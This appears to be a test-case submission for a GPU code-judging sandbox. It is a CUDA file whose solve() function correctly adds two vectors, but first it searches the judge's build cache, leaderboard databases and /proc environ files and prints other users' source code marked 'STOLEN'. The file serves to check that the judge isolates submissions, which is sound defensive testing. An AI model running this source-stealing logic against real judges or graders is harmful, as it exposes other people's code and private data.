// expect: accepted
// expect-output-lacks: CLASSMATE-SECRET
// Attacker's intent: steal other people's sources. Against the old judge a submission printed a classmate's code:
// the leaderboard stores every accepted source, and the build cache keeps every submission's glue.cu. On its first
// call this looks where this run's judge keeps them (JUDGE_CACHE_DIR and JUDGE_DB, else the XDG defaults under HOME,
// in its own environment and its judge ancestors' /proc/<pid>/environ; the judge's folders under /tmp), prints the
// start of every glue.cu and .cu it finds in the cache's builds, and the readable text (runs of printable
// characters, as strings(1) shows them) of every leaderboard database it can open. Its own build and anything
// quoting its own source are passed over (they would quote this header). Then it adds correctly.
// Harmless when the process running a submission reaches none of those records: the classmate's secret (planted
// by the test in the database and in a cached glue.cu, and checked for by its exact value too) is nowhere in the
// output. It is correct, so `accepted`.
#include <cuda_runtime.h>

#include <dirent.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <map>
#include <string>
#include <vector>

#include "judge_paths.cuh"

namespace {

// Any copy of this file contains this text, so what contains it is our own and would only quote this header.
constexpr const char* kSelf = "STEALS-STORED-SOURCES-OWN-TEXT";

bool ours(const std::string& text) { return text.find(kSelf) != std::string::npos; }

size_t printed = 0;
constexpr size_t kBudget = 48 * 1024;  // the judge keeps 64 KiB of output: stay well inside it

void steal(const std::string& what, const std::string& text, size_t limit) {
  if (text.empty() || ours(text) || printed >= kBudget) return;
  std::string shown = text.substr(0, std::min(limit, kBudget - printed));
  printed += shown.size();
  say("STOLEN " + what + ":\n" + shown);
}

// The printable runs of at least 16 characters in a binary file (strings(1)), joined by newlines.
std::string printable_runs(const std::string& data) {
  std::string out, run;
  for (char c : data) {
    if ((c >= 32 && c < 127) || c == '\n' || c == '\t') {
      run += c;
    } else {
      if (run.size() >= 16 && !ours(run)) out += run + "\n";
      run.clear();
    }
  }
  if (run.size() >= 16 && !ours(run)) out += run + "\n";
  return out;
}

void steal_sources() {
  // Our own build's folder, from where our library was loaded.
  Dl_info info{};
  std::string own_dir;
  if (dladdr(reinterpret_cast<void*>(&steal_sources), &info) && info.dli_fname) own_dir = dirname_of(info.dli_fname);
  Places places = find_places();
  int files = 0;
  for (const auto& cache : places.caches) {
    const std::string builds = cache + "/builds";
    for (const auto& build : list_dir(builds)) {
      const std::string dir = builds + "/" + build;
      if (dir == own_dir || !is_dir(dir)) continue;
      for (const auto& name : list_dir(dir)) {
        if (name.size() < 3 || (name.compare(name.size() - 3, 3, ".cu") != 0 && name.find(".h") == std::string::npos))
          continue;
        ++files;
        steal(dir + "/" + name, slurp(dir + "/" + name, 1 << 16), 1024);
      }
    }
  }
  for (const auto& db : places.databases) {
    if (!is_file(db)) continue;
    ++files;
    steal(db, printable_runs(slurp(db, 8 << 20)), 8192);
  }
  std::fprintf(stderr, "sources: %zu caches and %zu databases guessed, %d files read\n", places.caches.size(),
               places.databases.size(), files);
  std::fflush(stderr);
}

__global__ void add(const float* A, const float* B, float* C, int N) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < N) C[i] = A[i] + B[i];
}

}  // namespace

extern "C" void solve(const float* A, const float* B, float* C, int N) {
  static bool stolen = false;
  if (!stolen) {
    stolen = true;
    steal_sources();
  }
  add<<<(N + 255) / 256, 256>>>(A, B, C, N);
  cudaDeviceSynchronize();
}
